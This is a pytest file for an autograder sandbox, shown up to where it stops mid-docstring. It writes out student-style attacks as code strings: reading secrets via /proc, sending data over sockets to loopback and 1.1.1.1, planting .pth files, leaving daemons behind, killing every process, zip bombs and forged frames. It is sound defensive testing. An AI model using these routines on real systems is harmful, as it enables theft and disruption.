"""Attack catalogue: what a student might try against the grader, and what it gains (nothing).

Each attack is written as a student would hand it in: a solution cell of assignment 01, graded with
``grade_submission``, or a cell run in a ``StudentSession`` for attacks on the sandbox itself. The
tests assert the exact points the attacked function gets (zero, or what the honest function would
get when the attack is a side effect), that the other functions keep theirs, and that every message
is readable and never the grader's "internal error". ``docs/THREAT_MODEL.md`` says what is defended,
at which isolation level, and what is not; it points here.

Gradings are expensive (about 5 s each on 2 cores), so attacks are bundled: one submission carries at
most one attack per graded function (each function's points are independent of the others'), and the
functions left honest are the witnesses that nothing else moved. Attacks that would disturb the other
functions of their submission (a broken channel, a spent restart budget) are graded on their own.

Most attacks need namespaces (they are about what the sandbox lets student code see or touch), so
they are skipped where ``launcher.available_isolation()`` is ``"none"``: there the grader claims only
limits and cleanup, and every report says NOT ISOLATED (``test_forbidden_library_only_stubbed_when_not_isolated``
shows what that costs). Attacks on identities and on other sandboxes need ``strict`` (root).

Seven holes this catalogue found (a baseline the student could inflate, a giant integer in a
frame, text that cannot be encoded, one restart budget for all functions, a megabyte of code, CPU
and memory shared between sandboxes) were fixed; their tests stay here, as the others.
"""

import ast
import glob
import io
import json
import os
import signal
import socket
import struct
import sys
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from autograder.assignments import load_assignment
from autograder.grading import grade_submission, sandbox_config
from autograder.nbgrader_plugin import write_into_notebook
from autograder.report import summary
from autograder.sandbox import launcher
from autograder.sandbox.launcher import Limits, SandboxConfig
from autograder.sandbox.session import MAX_STUDENT_MESSAGE, MAX_STUDENT_TRACEBACK, StudentSession
from autograder.secret import secret_path
from autograder.submissions import build_submission, reference_cells
from conftest import failure_messages, full_marks, target_points

REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = "01_convolution_by_hand"
REFERENCE = reference_cells(ASSIGNMENT)  # the instructor's answers, read here on the trusted side

ISOLATION = launcher.available_isolation()
isolated_only = pytest.mark.skipif(ISOLATION == "none", reason="this machine allows no namespaces: at level "
                                   "'none' the grader claims only limits and cleanup (reports say NOT ISOLATED)")
strict_only = pytest.mark.skipif(ISOLATION != "strict", reason="per-sandbox user ids, cgroups and RLIMIT_NPROC "
                                 "need the 'strict' level (root)")


# -- helpers ------------------------------------------------------------------------------

def honest_with(target: str, attack: str, prelude: str = "") -> str:
    """The instructor's cell for ``target``, whose function first runs ``attack`` (statements that see
    ``args`` and ``kwargs``; it may ``return`` early), then answers honestly. A side-effect attack
    therefore keeps the function's points exactly when the grader is not disturbed by it."""
    body = "\n".join("    " + line for line in attack.strip("\n").split("\n"))
    return (f"{REFERENCE[target]}\n\n{prelude}\n\n_honest_{target} = {target}\n\n\n"
            f"def {target}(*args, **kwargs):\n{body}\n    return _honest_{target}(*args, **kwargs)\n")


def grade_cells(folder: Path, cells: dict, name: str = "submission") -> dict:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.ipynb"
    nbformat.write(build_submission(ASSIGNMENT, cells), path)
    return grade_submission(ASSIGNMENT, path)


def messages(result: dict, target: str) -> list[str]:
    return [t["message"] for t in result["tests"] if t["target"] == target]


def assert_only_these_lose(result: dict, lost: dict) -> None:
    """``lost``: target -> the points it must get (usually 0); every other target gets full marks."""
    expected = full_marks(result)
    expected.update(lost)
    assert target_points(result) == expected, [t for t in result["tests"] if t["status"] != "passed"]
    assert not result["grader_log"], result["grader_log"]
    for test in result["tests"]:
        assert test["message"], test
        assert "internal error" not in test["message"], test


def _processes_matching(text: bytes) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if text in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def _site_folders() -> list[str]:
    """Every folder of Python packages on this machine that the sandbox's Python could use."""
    folders = {p for p in sys.path if p.endswith("site-packages")}
    folders |= set(glob.glob(f"{sys.base_prefix}/lib/python3*/site-packages"))
    return sorted(f for f in folders if os.path.isdir(f))


SITES = _site_folders()
FORBIDDEN_SHARED_LIBRARIES = sorted(
    {p for site in SITES for pattern in ("scipy/signal/*.so", "scipy/ndimage/*.so", "cv2/*.so", "scipy.libs/*.so*",
                                         "tensorflow/libtensorflow_framework.so*", "skimage/measure/*.so")
     for p in glob.glob(os.path.join(site, pattern))})[:12]


# A conv2d_fast with correct values and a Python loop over the output positions (batch and channels
# vectorised): the catalogue's mutant that the vectorisation check must catch (it costs ~0.2 s of
# CPU on the 200x200 probe, against an allowance of ~30 ms).
POSITION_LOOP = '''
def _positions_loop(x, kernel, bias=None, strides=1, padding="valid"):
    x = np.asarray(x, dtype=float)
    kernel = np.asarray(kernel, dtype=float)
    kh, kw, c_in, c_out = kernel.shape
    sh, sw = (strides, strides) if np.ndim(strides) == 0 else tuple(strides)
    if padding == "same":
        pads = []
        for n, k, s in ((x.shape[1], kh, sh), (x.shape[2], kw, sw)):
            total = max((-(-n // s) - 1) * s + k - n, 0)
            pads.append((total // 2, total - total // 2))
        x = np.pad(x, ((0, 0), pads[0], pads[1], (0, 0)))
    out_h = (x.shape[1] - kh) // sh + 1
    out_w = (x.shape[2] - kw) // sw + 1
    flat = kernel.reshape(-1, c_out)
    out = np.empty((x.shape[0], out_h, out_w, c_out))
    for i in range(out_h):
        for j in range(out_w):
            window = x[:, i * sh:i * sh + kh, j * sw:j * sw + kw, :]
            out[:, i, j, :] = window.reshape(x.shape[0], -1) @ flat
    return out if bias is None else out + bias
'''

SPEED_MESSAGE = "conv2d_fast on one 200x200 image (39,601 output positions) took"


def assert_caught_as_a_loop(result: dict) -> None:
    """conv2d_fast has right values everywhere, and loses its points on the vectorisation check alone."""
    failing = [t for t in result["tests"] if t["target"] == "conv2d_fast" and t["status"] != "passed"]
    assert [t["name"] for t in failing] == ["test_fast_version_has_no_loop_over_batch_or_positions"], failing
    assert SPEED_MESSAGE in failing[0]["message"], failing[0]["message"]


# =========================================================================================
# 1. Forbidden libraries are absent from the sandbox's file system (claim 2)
# =========================================================================================

FORBIDDEN_TRICKS = {
    # sys.meta_path: drop the grader's stub finder, forget the stub modules, import for real.
    "correlate2d": '''
import importlib
import sys


def _without_the_stub(name):
    top = name.split(".")[0]
    saved = list(sys.meta_path)
    stubs = {k: sys.modules.pop(k) for k in list(sys.modules) if k.split(".")[0] == top}
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_ForbiddenLibraries"]
    try:
        return importlib.import_module(name)
    finally:  # put everything back, so that the other functions of this submission are untouched
        sys.meta_path[:] = saved
        for key in [k for k in sys.modules if k.split(".")[0] == top]:
            del sys.modules[key]
        sys.modules.update(stubs)


def correlate2d(image, kernel):
    signal = _without_the_stub("sci" + "py.signal")  # a string, so no reading of the code sees it
    return signal.correlate2d(image, kernel, mode="valid")
''',
    # load the package's files by path, past every finder
    "conv2d": '''
import importlib.util
import os

SITES = @SITES@


def _by_path(package):
    reasons = []
    for site in SITES:
        init = os.path.join(site, package, "__init__.py")
        spec = importlib.util.spec_from_file_location(package, init, submodule_search_locations=[os.path.dirname(init)])
        module = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(module)
            return module
        except OSError as error:
            reasons.append(type(error).__name__)
    raise ImportError(f"{package} by path: {sorted(set(reasons))}")


def conv2d(x, kernel, bias=None, strides=1, padding="valid"):
    library = _by_path("sci" + "py")
    return library.signal.correlate(x, kernel[::-1, ::-1], mode="valid")
''',
    # __import__ by string: the stub answers, and using it fails with the library's name
    "relu": '''
def relu(x):
    return __import__("ker" + "as").ops.relu(x)
''',
    # ctypes on the libraries' shared objects, by their paths on the grading machine
    "max_pool2d": '''
import ctypes

SHARED_LIBRARIES = @SHARED@


def max_pool2d(x, pool_size=2, strides=None, padding="valid"):
    reasons = []
    for path in SHARED_LIBRARIES:
        try:
            ctypes.CDLL(path)
        except OSError as error:
            reasons.append(str(error).rsplit(":", 1)[-1].strip())
            continue
        raise RuntimeError(f"LOADED {path}")  # would go on to call it
    raise OSError(f"none of {len(SHARED_LIBRARIES)} shared libraries loaded: {sorted(set(reasons))}")
''',
    # another site-packages on sys.path (the base interpreter's has its own SciPy), stub dropped
    "avg_pool2d": '''
import importlib
import sys

SITES = @SITES@


def avg_pool2d(x, pool_size=2, strides=None, padding="valid"):
    saved_path, saved_meta = list(sys.path), list(sys.meta_path)
    stubs = {k: sys.modules.pop(k) for k in list(sys.modules) if k.split(".")[0] == "skimage"}
    sys.path[:0] = SITES
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_ForbiddenLibraries"]
    importlib.invalidate_caches()
    try:
        measure = importlib.import_module("sk" + "image.measure")
    finally:
        sys.path[:], sys.meta_path[:] = saved_path, saved_meta
        for key in [k for k in sys.modules if k.split(".")[0] == "skimage"]:
            del sys.modules[key]
        sys.modules.update(stubs)
    return measure.block_reduce(x, (1, pool_size, pool_size, 1), np.mean)
''',
    # importlib.import_module by string: the stub again
    "flatten": '''
import importlib


def flatten(x):
    tf = importlib.import_module("tensor" + "flow")
    return tf.reshape(x, (x.shape[0], -1)).numpy()
''',
    # PathFinder directly, past sys.meta_path's stub
    "conv2d_fast": '''
import importlib.machinery
import importlib.util

SITES = @SITES@


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    spec = importlib.machinery.PathFinder.find_spec("cv2", SITES)
    if spec is None or spec.loader is None:
        raise ImportError(f"no cv2 on disk (spec {spec})")
    cv2 = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(cv2)
    return cv2.filter2D(x, -1, kernel)
''',
}


def _forbidden_tricks() -> dict:
    shared = repr(FORBIDDEN_SHARED_LIBRARIES)
    return {t: s.replace("@SITES@", repr(SITES)).replace("@SHARED@", shared) for t, s in FORBIDDEN_TRICKS.items()}


@pytest.fixture(scope="module")
def forbidden_graded(tmp_path_factory):
    return grade_cells(tmp_path_factory.mktemp("forbidden"), _forbidden_tricks())


@isolated_only
def test_forbidden_library_tricks_score_zero(forbidden_graded):
    """A student reaches for SciPy, Keras, TensorFlow, OpenCV or scikit-image past the grader's reading
    of the code (names built from strings) and past its import stub: dropping the stub from
    sys.meta_path, loading ``scipy/__init__.py`` by path, ``ctypes.CDLL`` on the libraries' ``.so``
    files, the base interpreter's site-packages on sys.path, ``PathFinder.find_spec`` directly.
    The grader covers every file of those libraries with an empty mount, in every site-packages the
    sandbox can see, so each trick finds nothing; the stub names the library when one is merely
    imported. Each attacked function scores zero with a message saying why; conv2d_multiply_adds,
    left honest, keeps its points."""
    assert FORBIDDEN_SHARED_LIBRARIES, "no forbidden library's shared objects on this machine to aim at"
    result = forbidden_graded
    assert_only_these_lose(result, {target: 0.0 for target in FORBIDDEN_TRICKS})
    found = {target: failure_messages(result, target) for target in FORBIDDEN_TRICKS}
    assert "No module named" in found["correlate2d"], found["correlate2d"]
    assert "scipy by path: ['" in found["conv2d"] and "Error" in found["conv2d"], found["conv2d"]
    assert "relu uses keras.ops.relu" in found["relu"], found["relu"]
    assert "shared libraries loaded" in found["max_pool2d"] and "LOADED" not in found["max_pool2d"]
    assert "No module named" in found["avg_pool2d"], found["avg_pool2d"]
    assert "flatten uses tensorflow.reshape" in found["flatten"], found["flatten"]
    assert "no cv2 on disk" in found["conv2d_fast"], found["conv2d_fast"]


def test_forbidden_library_only_stubbed_when_not_isolated(monkeypatch):
    """At level 'none' (no namespaces: reports say NOT ISOLATED) nothing can be hidden from the file
    system, so the forbidden libraries are only stubbed: dropping the stub from sys.meta_path reaches
    the real SciPy. This is what the strict and userns levels add; the static reading of the code
    (``static_checks.py``) is then the only defence against a library named in plain text."""
    monkeypatch.setenv("COURSE_SANDBOX", "none")
    launcher.available_isolation.cache_clear()
    trick = FORBIDDEN_TRICKS["correlate2d"].replace("def correlate2d(image, kernel):", "def where():").replace(
        'return signal.correlate2d(image, kernel, mode="valid")', "return signal.__file__")
    try:
        with StudentSession([{"id": "c", "source": trick}], SandboxConfig(limits=Limits(wall_seconds_per_call=20)),
                            forbidden_modules=("scipy",)) as session:
            outcome = session.call("where")
    finally:
        launcher.available_isolation.cache_clear()
    assert outcome.status == "ok" and outcome.value.endswith("scipy/signal/__init__.py"), outcome


# =========================================================================================
# 2. Secrets, network, files, processes, signals, lies, floods (claims 1, 7, 8)
# =========================================================================================

class _Listener:
    """A TCP and a UDP socket of the grader's machine that count what reaches them."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.udp.settimeout(0.2)
        self.received = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stopped.is_set():
            for sock in (self.tcp, self.udp):
                try:
                    self.received.append(sock.accept() if sock is self.tcp else sock.recvfrom(100))
                except OSError:
                    pass

    def close(self):
        self.stopped.set()
        self.thread.join(timeout=2)
        self.tcp.close()
        self.udp.close()


def _host_address() -> str | None:
    """This machine's address on its network (no packet is sent)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))
        address = probe.getsockname()[0]
        return None if address.startswith("127.") else address
    except OSError:
        return None
    finally:
        probe.close()


def _secret_targets() -> dict:
    solutions = next((REPO / "solutions" / ASSIGNMENT).glob("*.ipynb"))
    return {"course secret": str(secret_path(REPO)),
            "hidden check": str(REPO / "autograder" / "checks" / ASSIGNMENT / "test_correlate2d.py"),
            "solution notebook": str(solutions)}


READ_SECRETS = '''
import os
import sys

_TARGETS = @TARGETS@
_reported = []


def _read(path):
    try:
        if os.path.isdir(path):
            return "LISTED " + ",".join(sorted(os.listdir(path)))
        with open(path, "rb") as handle:
            return "READ " + handle.read(64).hex()
    except OSError as error:
        return type(error).__name__


def _steal():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    report = {}
    for name, path in _TARGETS.items():
        ways = {"by path": path, "/proc/self/root": "/proc/self/root" + path, "/proc/1/root": "/proc/1/root" + path,
                "/proc/self/cwd/..": "/proc/self/cwd" + "/.." * 12 + path}
        ways.update({f"/proc/{pid}/root": f"/proc/{pid}/root{path}" for pid in pids})
        report[name] = {way: _read(p) for way, p in ways.items()}
    report["course directory"] = _read(@REPO@)
    report["solutions folder"] = _read(@REPO@ + "/solutions")
    report["/proc/1/cmdline"] = _read("/proc/1/cmdline")
    report["/proc/1/environ"] = _read("/proc/1/environ")
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            pass
    report["inherited descriptors"] = fds
    print("STOLEN", report, file=sys.stderr, flush=True)
'''

TRY_NETWORK = '''
import socket
import sys

_ADDRESSES = @ADDRESSES@
_UDP = @UDP@
_tried = []


def _call_home():
    report = {}
    for name, address in _ADDRESSES.items():
        try:
            socket.create_connection(tuple(address), timeout=1).sendall(b"my hidden inputs")
            report[name] = "CONNECTED"
        except OSError as error:
            report[name] = type(error).__name__
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"my hidden inputs", tuple(_UDP))
        report["udp"] = "sent"
    except OSError as error:
        report["udp"] = type(error).__name__
    print("NETWORK", report, file=sys.stderr, flush=True)
'''

PLANT_FILES = '''
import os
import sys

_PLACES = @PLACES@
_planted = []


def _plant():
    here = os.path.dirname(os.path.abspath(sys.argv[0]))  # the sandbox's own folder: worker.py, artifacts/
    places = dict(_PLACES, **{"artifacts folder": os.path.join(here, "artifacts", "planted.keras"),
                              "worker itself": os.path.join(here, "worker.py"),
                              "scratch (allowed)": os.path.join(os.environ["TMPDIR"], "planted.txt")})
    report = {}
    for name, path in places.items():
        try:
            with open(path, "a") as handle:
                handle.write("import os  # runs in the next Python that reads this folder\\n")
            report[name] = "WRITTEN"
        except OSError as error:
            report[name] = type(error).__name__
    print("PLANTED", report, file=sys.stderr, flush=True)
'''

LEAVE_PROCESSES = '''
import os
import subprocess

_MARKER = @MARKER@
_left = []


def _leave_behind():
    subprocess.Popen(["sleep", _MARKER], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen(["sh", "-c", f"nohup sleep {_MARKER} >/dev/null 2>&1 &"])
    if os.fork() == 0:  # a daemon: double fork, own session, no parent to reap it
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", _MARKER])
        os._exit(0)
'''

LIAR = '''
np.allclose = lambda *args, **kwargs: True  # would fool checks running in this process
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None


class _AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_finalize__(self, obj):
        pass
'''

SIGNALS = '''
import os
import signal
import sys


def _kill_everyone():
    report = {}
    for name, pid in (("init", 1), ("every process", -1)):
        try:
            os.kill(pid, signal.SIGKILL)
            report[name] = "sent"
        except OSError as error:
            report[name] = type(error).__name__
    print("KILLED", report, file=sys.stderr, flush=True)
'''

THREAD_LOOP = POSITION_LOOP + '''
import threading


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    box = []
    worker = threading.Thread(target=lambda: box.append(_positions_loop(x, kernel, bias, strides, padding)))
    worker.start()
    worker.join()
    return box[0]
'''

FLOOD = '''
def conv2d_multiply_adds(*args, **kwargs):
    print(("flooding the grader's log " * 40 + "\\n") * 2000, end="")  # 2 MB per call
    return _honest_conv2d_multiply_adds(*args, **kwargs)
'''


@pytest.fixture(scope="module")
def escape_graded(tmp_path_factory):
    listener = _Listener()
    port, udp_port = listener.tcp.getsockname()[1], listener.udp.getsockname()[1]
    addresses = {"grader loopback": ("127.0.0.1", port), "internet": ("1.1.1.1", 80)}
    host = _host_address()
    if host:
        addresses["grader's network address"] = (host, port)
    venv_site = next(p for p in SITES if p.startswith(sys.prefix))
    base_site = next((p for p in SITES if p.startswith(sys.base_prefix)), venv_site)
    places = {"repository": str(REPO / "cnn_course" / "planted.py"),
              "course directory": str(REPO / "planted.txt"),
              "grader's site-packages": os.path.join(venv_site, "zz_planted.pth"),
              "base interpreter's site-packages": os.path.join(base_site, "zz_planted.pth"),
              "system": "/etc/planted"}
    marker = f"31{os.getpid():07d}"
    read_secrets = READ_SECRETS.replace("@TARGETS@", repr(_secret_targets())).replace("@REPO@", repr(str(REPO)))
    try_network = TRY_NETWORK.replace("@ADDRESSES@", repr(addresses)).replace("@UDP@", repr(("127.0.0.1", udp_port)))
    cells = {
        "correlate2d": honest_with("correlate2d", "if not _reported:\n    _reported.append(1)\n    _steal()",
                                   read_secrets),
        "conv2d": honest_with("conv2d", "if not _tried:\n    _tried.append(1)\n    _call_home()", try_network),
        "relu": honest_with("relu", "if not _planted:\n    _planted.append(1)\n    _plant()",
                            PLANT_FILES.replace("@PLACES@", repr(places))),
        "max_pool2d": honest_with("max_pool2d", "if not _left:\n    _left.append(1)\n    _leave_behind()",
                                  LEAVE_PROCESSES.replace("@MARKER@", repr(marker))),
        "avg_pool2d": honest_with("avg_pool2d", "return np.zeros(3).view(_AlwaysEqual)", LIAR),
        "flatten": honest_with("flatten", "_kill_everyone()", SIGNALS),
        "conv2d_fast": THREAD_LOOP,
        "conv2d_multiply_adds": REFERENCE["conv2d_multiply_adds"]
        + "\n\n_honest_conv2d_multiply_adds = conv2d_multiply_adds\n" + FLOOD,
    }
    seen, grading = [], threading.Event()

    def watch():  # the left-behind processes do exist while the grading runs
        while not grading.is_set() and not seen:
            seen.extend(_processes_matching(b"sleep\0" + marker.encode()))
            time.sleep(0.1)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        result = grade_cells(tmp_path_factory.mktemp("escape"), cells)
        time.sleep(0.5)  # anything that reached the listener has arrived
    finally:
        grading.set()
        watcher.join(timeout=2)
        listener.close()
    deadline = time.monotonic() + 5
    while _processes_matching(b"sleep\0" + marker.encode()) and time.monotonic() < deadline:
        time.sleep(0.1)
    left = _processes_matching(b"sleep\0" + marker.encode())
    for pid in left:  # never leave them running, even when the test fails
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return {"result": result, "received": listener.received, "left": left, "seen": seen, "places": places}


def _report(result: dict, tag: str) -> str:
    text = result["student_output"]["stderr"]
    assert f"{tag} " in text, text[-2000:]
    return text


@isolated_only
def test_side_effect_attacks_leave_the_honest_answers_their_points(escape_graded):
    """Five attacks ride along an honest answer (the instructor's code, run after the attack), so the
    function keeps its points exactly when the grader is undisturbed: reading the course secret, the
    hidden checks and the solutions (correlate2d), calling home (conv2d), planting files (relu),
    leaving processes behind (max_pool2d), signalling init and every process (flatten), flooding the
    output (conv2d_multiply_adds). Two attacks aim at the score itself and score zero: an array whose
    ``==`` always says yes, with NumPy's comparisons patched in the student's process (avg_pool2d:
    values cross as plain data and are compared in the grader), and the loop of conv2d_fast moved into
    a thread (its CPU time is counted by the sandbox's cgroup all the same)."""
    result = escape_graded["result"]
    assert_only_these_lose(result, {"avg_pool2d": 0.0, "conv2d_fast": 0.0})
    assert "expected shape" in failure_messages(result, "avg_pool2d")
    assert_caught_as_a_loop(result)


@isolated_only
def test_secrets_stay_out_of_reach(escape_graded):
    """The course secret, the hidden checks and the solutions are not in the sandbox's root at all:
    not by path, not through /proc/self/root, /proc/self/cwd or /proc/<pid>/root (the only processes
    visible are the student's own: /proc is mounted with hidepid=2, so not even init's command line
    shows), and no descriptor of the grader's is inherited besides the two protocol pipes."""
    result = escape_graded["result"]
    text = _report(result, "STOLEN")
    report = ast.literal_eval(text.split("STOLEN ", 1)[1].split("\n", 1)[0])  # the attack's own printout
    for name in _secret_targets():
        assert all(not outcome.startswith(("READ", "LISTED")) for outcome in report[name].values()), report[name]
    assert report["course directory"] in ("LISTED .venv", "FileNotFoundError", "PermissionError"), report
    assert report["solutions folder"] in ("FileNotFoundError", "PermissionError", "LISTED "), report
    assert report["/proc/1/cmdline"] in ("FileNotFoundError", "PermissionError"), report
    assert report["/proc/1/environ"] in ("FileNotFoundError", "PermissionError"), report
    sandboxes = launcher._sandbox_parent()
    for fd, target in report["inherited descriptors"].items():  # no file or folder of the grader's, open
        assert not target.startswith("/") or target == "/dev/null" or target.startswith(sandboxes), (fd, target)
    secret = secret_path(REPO).read_bytes()
    everything = json.dumps(result)
    assert secret.hex() not in everything and secret.hex()[:32] not in everything
    hidden_check = (REPO / "autograder" / "checks" / ASSIGNMENT / "test_correlate2d.py").read_text()
    assert hidden_check.splitlines()[0] not in everything


@isolated_only
def test_no_network_not_even_to_the_grading_machine(escape_graded):
    """Calling home (the grader's loopback, its network address, the internet, UDP): the sandbox has
    a network namespace of its own with no interface up, so nothing leaves; the grader's listening
    sockets receive nothing."""
    text = _report(escape_graded["result"], "NETWORK")
    assert "CONNECTED" not in text and "'udp': 'sent'" not in text, text[-1000:]
    assert escape_graded["received"] == []


@isolated_only
def test_nothing_can_be_planted(escape_graded):
    """Writing into the repository, the course directory, the grader's own site-packages (a ``.pth``
    there would run in the grader's next Python), the base interpreter's, /etc, the sandbox's
    artifacts folder (the handed-in files) and the worker's own code: everything the sandbox sees is
    mounted read-only except its scratch space, which is a tmpfs thrown away with the sandbox."""
    text = _report(escape_graded["result"], "PLANTED")
    report = ast.literal_eval(text.split("PLANTED ", 1)[1].split("\n", 1)[0])
    assert report.pop("scratch (allowed)") == "WRITTEN", report
    assert "WRITTEN" not in report.values(), report
    for path in escape_graded["places"].values():
        assert not os.path.exists(path), path


@isolated_only
def test_no_process_is_left_behind_and_signals_stay_inside(escape_graded):
    """A detached ``sleep`` (new session), one under ``nohup sh -c ... &`` and a double-forked daemon:
    the sandbox's PID namespace dies with its init, taking them all. ``os.kill(1, SIGKILL)`` and
    ``os.kill(-1, SIGKILL)`` reach only the student's own processes (init is root's and hidden), so
    the grading carried on: flatten kept its points."""
    assert escape_graded["seen"], "the attack did not start its processes"
    assert escape_graded["left"] == [], "processes left behind after grading"
    text = _report(escape_graded["result"], "KILLED")
    assert "'init': 'sent'" not in text, text[-500:]


@isolated_only
def test_output_floods_are_cut(escape_graded):
    """2 MB printed on every call: the grader drains the pipes in threads and keeps the first 20,000
    bytes of each worker, and the result the last 4,000 characters, saying how much was printed."""
    stdout = escape_graded["result"]["student_output"]["stdout"]
    assert len(stdout) <= 4000 and "output truncated" in stdout


# =========================================================================================
# 3. The channel: raw frames written by student code, exfiltration through messages (claims 4, 6)
# =========================================================================================

# The student's code runs in the process that holds the response pipe (its number is sys.argv[2]),
# so it can write any bytes the grader will read as an answer. Each attack fires on one case of its
# function (a shape the public labels give away), then leaves the process, so that the worker's own
# answer never follows the forged one.
RAW_FRAME = '''
import io
import os
import struct
import sys
import zipfile


def _send_bytes(data):
    while data:
        data = data[os.write(int(sys.argv[2]), data):]
    os._exit(0)  # so that the worker's own answer never follows


def _send_raw(head, payload=b""):
    _send_bytes(struct.pack(">IQ", len(head), len(payload)) + head + payload)


def _zip_bomb():
    """256 MB of zeros, deflated as they are written: a few hundred kB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("a0.npy", "w", force_zip64=True) as member:
            member.write(NPY_HEADER)
            zeros = bytes(1 << 20)
            for _ in range(256):
                member.write(zeros)
    return buffer.getvalue()
'''


def _stored_npz(members: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _npy_header(shape, dtype="<f8") -> bytes:
    header = repr({"descr": dtype, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


ANSWER_WITH_AN_ARRAY = "b'{\"status\": \"ok\", \"value\": {\"__array__\": 0}}'"
RAW_ATTACKS = {
    # a header that declares 2 GB
    "correlate2d": ("np.shape(args[0]) == (6, 7)", "_send_bytes(struct.pack('>IQ', 2**31, 0))",
                    "too large"),
    # a zip bomb: 256 MB of zeros deflated to a few hundred kB
    "conv2d": ("np.shape(args[0]) == (2, 7, 6, 3)", f"_send_raw({ANSWER_WITH_AN_ARRAY}, _zip_bomb())",
               "compressed array payload refused"),
    # an .npy header that declares a 10^12-element array over 80 bytes of data
    "max_pool2d": ("np.shape(args[0]) == (2, 6, 6, 3)", f"_send_raw({ANSWER_WITH_AN_ARRAY}, GIANT)",
                   "declares more data than it holds"),
    # JSON nested 200,000 deep
    "avg_pool2d": ("np.shape(args[0]) == (2, 6, 6, 3)", "_send_raw(b'[' * 200_000 + b']' * 200_000)",
                   "nested too deeply"),
    # a forged error of 900 kB: whatever the worker would cut, the grader cuts
    "flatten": ("np.shape(args[0]) == (2, 3, 4, 5)",
                "_send_raw(json.dumps({'status': 'error', 'error_type': 'E' * 5000, 'message': 'M' * 600_000, "
                "'traceback': 'T' * 300_000}).encode())",
                "MMMM"),
}


def _raw_frame_cells() -> dict:
    cells = {}
    blobs = (f"import json\n\nNPY_HEADER = {_npy_header((32 << 20,))!r}\n"
             f"GIANT = {_stored_npz({'a0.npy': _npy_header((10**6, 10**6)) + bytes(80)})!r}\n")
    for target, (when, how, _) in RAW_ATTACKS.items():
        prelude = RAW_FRAME + blobs
        cells[target] = honest_with(target, f"if {when}:\n    {how}", prelude)
    return cells


# The hidden input, whole, in an exception message: what reaches feedback is cut on the trusted side.
EXFILTRATE = '''
def relu(*args, **kwargs):
    raise ValueError("HIDDEN " + repr([np.asarray(a).tolist() for a in args]) + " END")
'''

FORK_LOOP = POSITION_LOOP + '''
import os


def conv2d_fast(x, kernel, bias=None, strides=1, padding="valid"):
    path = os.path.join(os.environ["TMPDIR"], f"answer-{os.getpid()}.npy")
    child = os.fork()
    if child == 0:  # the loop runs in another process: is its CPU time counted?
        np.save(path, _positions_loop(x, kernel, bias, strides, padding))
        os._exit(0)
    os.waitpid(child, 0)
    answer = np.load(path)
    os.unlink(path)
    return answer
'''


@pytest.fixture(scope="module")
def channel_graded(tmp_path_factory):
    cells = dict(_raw_frame_cells(), relu=EXFILTRATE, conv2d_fast=FORK_LOOP)
    return grade_cells(tmp_path_factory.mktemp("channel"), cells)


def test_raw_frames_cost_only_their_function(channel_graded):
    """A student writes forged frames straight to the response pipe: a header declaring 2 GB, a zip
    bomb, an array header declaring 10^12 elements, JSON nested 200,000 deep, an error message of
    900 kB. The grader's reader checks sizes before reading, never inflates, checks each array's
    declared size against what arrived and refuses deep nesting: each costs only the call it answers
    (status error, a readable reason), the worker is replaced, and the rest of the submission is
    graded as usual: conv2d_multiply_adds, left honest, keeps its points."""
    result = channel_graded
    attacked = {target: 0.0 for target in RAW_ATTACKS} | {"relu": 0.0, "conv2d_fast": 0.0}
    assert_only_these_lose(result, attacked)
    for target, (_, _, reason) in RAW_ATTACKS.items():
        assert reason in failure_messages(result, target), (target, failure_messages(result, target))
    longest = max(len(m) for m in messages(result, "flatten"))
    assert longest < MAX_STUDENT_MESSAGE + MAX_STUDENT_TRACEBACK + 400, longest


def test_the_loop_in_a_forked_child_is_counted(channel_graded):
    """conv2d_fast forks a child that runs the loop and hands back the answer through a file: the
    child is in the sandbox's cgroup, whose CPU time the grader reads from outside, so the loop is
    seen and conv2d_fast loses its points on the vectorisation check alone."""
    assert_caught_as_a_loop(channel_graded)


def test_hidden_inputs_leave_only_in_pieces(channel_graded):
    """relu raises an exception whose message is the repr of all its arguments. The worker cuts its
    messages, but the grader does not rely on that: it cuts every text from the sandbox again
    (session.MAX_STUDENT_MESSAGE, MAX_STUDENT_TRACEBACK), so a few hundred characters of each call's
